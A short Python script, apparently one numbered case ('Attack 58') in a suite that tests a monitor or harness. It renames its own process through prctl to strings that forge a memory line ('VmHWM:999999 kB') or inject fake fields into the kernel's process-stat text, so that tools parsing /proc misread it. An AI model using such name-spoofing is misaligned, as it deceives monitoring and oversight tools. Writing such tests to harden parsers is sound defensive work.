"""Attack 58: takes names that would fool whoever reads the kernel's tables about it."""

import ctypes

from attacker import serve, tell

PR_SET_NAME = 15
NAMES = (b"VmHWM:999999 kB", b"a) T 1 1 1 1 1")


def act(message):
    prctl = ctypes.CDLL(None).prctl
    tell(named=prctl(PR_SET_NAME, NAMES[message["view"]["seat"]], 0, 0, 0))
    return b"no answer"


serve(act)
